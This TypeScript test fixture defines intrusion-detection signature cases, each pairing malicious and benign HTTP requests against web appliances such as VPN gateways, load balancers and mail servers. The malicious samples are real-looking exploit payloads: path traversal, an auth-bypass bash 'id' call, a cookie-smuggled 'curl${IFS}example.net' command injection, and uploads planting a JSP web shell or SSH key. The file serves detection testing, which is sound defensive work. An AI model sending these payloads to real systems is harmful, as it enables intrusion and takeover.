// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the payloads of attacks are written with these characters
import { type SignatureCase, signature } from '../exchange';
import { get, JSON_TYPE, post, request, upload, XML_TYPE } from '../http';

const base64 = (text: string) => Buffer.from(text, 'latin1').toString('base64');

export const webAppliances: readonly SignatureCase[] = [
  signature(
    9000201,
    [get('/vpn/../vpns/portal/scripts/newbm.pl'), get('/VPN/%2e%2e/vpns/cfg/smb.conf')],
    [get('/vpn/index.html'), get('/vpns/portal/homepage.html')],
  ),
  signature(
    9000202,
    [
      get('/oauth/idp/.well-known/openid-configuration', { Host: 'a'.repeat(2500) }),
      get('/oauth/idp/.well-known/OpenID-configuration', { host: 'b'.repeat(4000) }),
    ],
    [get('/oauth/idp/.well-known/openid-configuration', { Host: 'login.example.org' })],
  ),
  signature(
    9000203,
    [
      get('/tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp?fileName=/etc/hostname'),
      get('/tmui/login.jsp/.%2e%3b/tmui/system/user/authproperties.jsp'),
    ],
    [get('/tmui/login.jsp'), get('/tmui/tmui/system/settings.jsp;tab=1')],
  ),
  signature(
    9000204,
    [
      post('/mgmt/tm/util/bash', '{"command":"run","utilCmdArgs":"-c id"}', {
        ...JSON_TYPE,
        Authorization: 'Basic YWRtaW46',
        Connection: 'close, X-F5-Auth-Token',
        'X-F5-Auth-Token': 'x',
      }),
      post('/mgmt/tm/sys/config', '{}', { connection: 'x-f5-auth-token,keep-alive', 'x-f5-auth-token': '0' }),
    ],
    [get('/mgmt/tm/ltm/pool', { Connection: 'keep-alive', 'X-F5-Auth-Token': 'KQXYZ' })],
  ),
  signature(
    9000205,
    [
      get('/dana-na/../dana/html5acc/guacamole/../../../../../../etc/hostname?/dana/html5acc/guacamole/'),
      get('/dana-na/%2e%2e/dana/html5acc/guacamole/%2e%2e/%2e%2e/data/runtime/mtmp/system'),
    ],
    [get('/dana-na/auth/url_default/welcome.cgi'), get('/dana/html5acc/guacamole/app.js')],
  ),
  signature(
    9000206,
    [
      get('/api/v1/totp/user-backup-code/../../license/keys-status/%3bid'),
      get('/api/v1/totp/user-backup-code/%2e%2e%2f%2e%2e/system/system-information'),
    ],
    [post('/api/v1/totp/user-backup-code/check', '{"code":"1"}', JSON_TYPE)],
  ),
  signature(
    9000207,
    [
      get('/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession'),
      get('/remote/fgt_lang?lang=..%2f..%2f..%2f..%2fbin/sslvpnd'),
    ],
    [get('/remote/fgt_lang?lang=en'), get('/remote/login?lang=en')],
  ),
  signature(
    9000208,
    [
      request('PUT', '/api/v2/cmdb/system/admin/admin', '{"ssh-public-key1":"x"}', {
        headers: {
          ...JSON_TYPE,
          Forwarded: 'for="[127.0.0.1]:8000";by="[127.0.0.1]:9000";',
          'User-Agent': 'Report Runner',
        },
      }),
      get('/api/v2/cmdb/system/admin', { forwarded: 'by=127.0.0.1;for=127.0.0.1' }),
    ],
    [get('/api/v2/cmdb/system/status', { Forwarded: 'for=203.0.113.5;proto=https' })],
  ),
  signature(
    9000209,
    [
      get(
        '/autodiscover/autodiscover.json?@example.net/mapi/nspi/?&Email=autodiscover/autodiscover.json%3f@example.net',
      ),
      post('/Autodiscover/autodiscover.json?a=b@c.d/PowerShell/?X-Rps-CAT=VgEA', 'x'),
    ],
    [
      get('/autodiscover/autodiscover.json/v1.0/ann@example.org?Protocol=EWS'),
      get('/autodiscover/autodiscover.json?Email=ann@example.org&Protocol=ActiveSync'),
    ],
  ),
  signature(
    9000210,
    [
      get('/owa/auth/x.js', {
        Cookie:
          'X-AnonResource=true; X-AnonResource-Backend=localhost/ecp/default.flt?~3; X-BEResource=localhost/owa/auth/logon.aspx?~3;',
      }),
      post('/ecp/y.js', '<x/>', {
        ...XML_TYPE,
        Cookie: 'x-beresource=EX01/autodiscover/autodiscover.xml?a=~1942062522',
      }),
    ],
    [get('/owa/', { Cookie: 'X-BackEndCookie=S-1-5-21=u56Lnp2ejJqByMjP~; X-OWA-CANARY=abc' })],
  ),
  signature(
    9000211,
    [
      upload(
        '/ui/vropspluginui/rest/services/uploadova',
        'a.tar',
        '../../usr/lib/vmware-vsphere-ui/shell.jsp\0\0\0',
      ),
      post('/ui/vropspluginui/rest/services/UploadOVA', '../../home/vsphere-ui/.ssh/authorized_keys\0'),
    ],
    [upload('/ui/vropspluginui/rest/services/uploadova', 'appliance.ova', 'appliance.ovf\0\0\0')],
  ),
  signature(
    9000212,
    [
      post('/ssl-vpn/hipreport.esp', 'user=a', {
        Cookie: 'SESSID=/../../../opt/panlogs/tmp/device_telemetry/minute/h4`curl${IFS}example.net`',
      }),
      get('/global-protect/login.esp', {
        Cookie: 'a=b; SESSID=../../../../var/appweb/sslvpndocs/global-protect/portal/images/x.txt',
      }),
    ],
    [get('/global-protect/login.esp', { Cookie: 'SESSID=7c7a9b8e-7e11-4a7e-a9c1-6d5f8f1c2b33' })],
  ),
  signature(
    9000213,
    [
      get(
        '/+CSCOT+/translation-table?type=mst&textdomain=/%2bCSCOE%2b/portal_inc.lua&default-language&lang=../',
      ),
      get('/+CSCOT+/oem-customization?app=AnyConnect&type=oem&platform=..&resource-type=..&name=x&lang=../'),
    ],
    [get('/+CSCOT+/translation-table?type=mst&textdomain=AnyConnect&lang=en-us')],
  ),
  signature(
    9000214,
    [
      post('/%2577ebui_wsma_https', '<x/>', XML_TYPE),
      post('/%2577ebui_wsma_Http', '<execCLI>show version</execCLI>', XML_TYPE),
    ],
    [get('/webui/login.html'), get('/search?q=100%25webui')],
  ),
  signature(
    9000215,
    [
      post(
        '/service/extension/backup/mboximport?account-name=admin&ow=2&no-switch=1&append=1',
        'PK\x03\x04../../../../opt/zimbra/jetty/webapps/zimbraAdmin/0.jsp',
      ),
      post(
        '/service/extension/backup/MboxImport?account-name=a',
        'PK\x03\x04\x0a\0../../mailboxd/webapps/x.jsp',
      ),
    ],
    [post('/service/extension/backup/mboximport?account-name=ann', 'PK\x03\x04Inbox/0001.eml')],
  ),
  signature(
    9000216,
    [
      post(
        '/SamlResponseServlet',
        `SAMLResponse=${base64('<ds:Transform><xsl:variable select="rt:exec(java.lang.Runtime, 1)"/>')}`,
        {},
        8080,
      ),
      post(
        '/samlresponseservlet',
        `RelayState=1&SAMLResponse=${base64('<a xmlns:rt="http://xml.apache.org/xalan/java/java.lang.Runtime">')}`,
      ),
    ],
    [
      post(
        '/SamlResponseServlet',
        `SAMLResponse=${base64('<samlp:Response ID="x"><saml:Issuer>idp</saml:Issuer></samlp:Response>')}`,
      ),
    ],
  ),
  signature(
    9000217,
    [
      post('/_layouts/15/ToolPane.aspx?DisplayMode=Edit&a=/ToolPane.aspx', 'MSOTlPn_DWP=x', {
        Referer: '/_layouts/SignOut.aspx',
      }),
      post('/_layouts/16/toolpane.aspx?DisplayMode=Edit', 'x=1', {
        referer: 'http://sp.example.org/_layouts/signout.aspx',
      }),
    ],
    [
      post('/_layouts/15/ToolPane.aspx?DisplayMode=Edit', 'x=1', {
        Referer: 'http://sp.example.org/sites/a/edit.aspx',
      }),
    ],
  ),
  signature(
    9000218,
    [get('/SetupWizard.aspx/', {}, 8040), post('/setupwizard.aspx/anything', 'ctl00=1', {}, 8040)],
    [get('/Administration.aspx', {}, 8040), get('/SetupWizard.aspx?step=1', {}, 8040)],
  ),
];
